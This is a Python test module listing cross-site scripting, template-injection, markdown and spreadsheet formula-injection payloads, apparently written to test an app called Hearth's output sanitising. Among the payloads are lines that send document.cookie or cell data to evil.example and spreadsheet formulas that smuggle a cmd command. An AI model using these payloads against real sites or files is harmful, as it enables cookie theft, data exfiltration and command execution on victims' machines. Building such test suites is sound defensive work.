"""Cross-site scripting and formula-injection payloads, written for Hearth's tests.

Every payload that could run carries the marker ``XSS`` in the part that would run, so a
check can tell an element or attribute the payload introduced from the page's own.
"""

MARKER = "XSS"

SCRIPT_TAGS = [
    "<script>alert('XSS')</script>",
    "<ScRiPt>alert('XSS')</sCrIpT>",
    "<script src=https://evil.example/XSS.js></script>",
    "<script>/*XSS*/fetch('//evil.example/'+document.cookie)</script>",
    "<<script>alert('XSS');//<</script>",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "</textarea><script>alert('XSS')</script>",
    "</title><script>alert('XSS')</script>",
    "</script><script>alert('XSS')</script>",
    "<script\x20type=\"text/javascript\">alert('XSS')</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert('XSS')>",
    "<IMG SRC=x OnErRoR=alert('XSS')>",
    "<body onload=alert('XSS')>",
    "<div onmouseover=\"alert('XSS')\">hover</div>",
    "<input autofocus onfocus=alert('XSS')>",
    "<details open ontoggle=alert('XSS')>",
    "<video><source onerror=alert('XSS')></video>",
    "<marquee onstart=alert('XSS')>",
    "<img src=x onerror\n=alert('XSS')>",
    "<img/src=x/onerror=alert('XSS')>",
]

URL_SCHEMES = [
    "<a href=\"javascript:alert('XSS')\">click</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">click</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS')\">click</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=">XSS</a>',
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    "<form action=\"javascript:alert('XSS')\"><button>XSS</button></form>",
    "<object data=\"javascript:alert('XSS')\"></object>",
    "<embed src=\"javascript:alert('XSS')\">",
    "<a href=\"vbscript:msgbox('XSS')\">click</a>",
]

SVG_AND_MATH = [
    "<svg onload=alert('XSS')>",
    "<svg><script>alert('XSS')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('XSS')\"><text y=20>XSS</text></a></svg>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>",
]

ENCODED = [
    "&lt;script&gt;alert('XSS')&lt;/script&gt;",
    "&#60;script&#62;alert('XSS')&#60;/script&#62;",
    "%3Cscript%3Ealert('XSS')%3C/script%3E",
    "\\u003cscript\\u003ealert('XSS')\\u003c/script\\u003e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('XSS')>",
]

ATTRIBUTE_BREAKOUTS = [
    "\" onmouseover=\"alert('XSS')",
    "' onfocus='alert(`XSS`)' autofocus='",
    "\"><img src=x onerror=alert('XSS')>",
    "'><svg onload=alert('XSS')>",
    "\" style=\"background:url(javascript:alert('XSS'))",
]

# Evaluated, each would show the word EVALUATED right after the marker.
TEMPLATE_INJECTION = [
    "XSS{{ 'evaluated'|upper }}",
    "XSS{% filter upper %}evaluated{% endfilter %}",
    "XSS${'evaluated'.toUpperCase()}",
    "XSS#{'evaluated'.upcase}",
    "{{ request.user.password }}XSS",
]

MARKDOWN_TRICKS = [
    "[XSS](javascript:alert(1))",
    "[XSS](JAVASCRIPT:alert(1))",
    "[XSS](data:text/html,<script>alert(1)</script>)",
    "![XSS](javascript:alert(1))",
    "[XSS]( javascript:alert(1) )",
    "<https://example.org\" onclick=\"alert('XSS')>",
    "[XSS][ref]\n\n[ref]: javascript:alert(1)",
]

CSS = [
    "<div style=\"width:expression(alert('XSS'))\">x</div>",
    "<style>body{background:url(\"javascript:alert('XSS')\")}</style>",
    "<p style=\"background-image:url(javascript:alert('XSS'))\">x</p>",
    '<link rel=stylesheet href="https://evil.example/XSS.css">',
]

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"XSS")',
    "+cmd|' /C calc'!A0 XSS",
    "-2+3+cmd|' /C calc'!A0 XSS",
    "@SUM(1+1)*cmd|' /C calc'!A0 XSS",
    "\t=1+1 XSS",
    "\r=1+1 XSS",
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URL_SCHEMES,
    *SVG_AND_MATH,
    *ENCODED,
    *ATTRIBUTE_BREAKOUTS,
    *TEMPLATE_INJECTION,
    *MARKDOWN_TRICKS,
    *CSS,
    *FORMULAS,
]
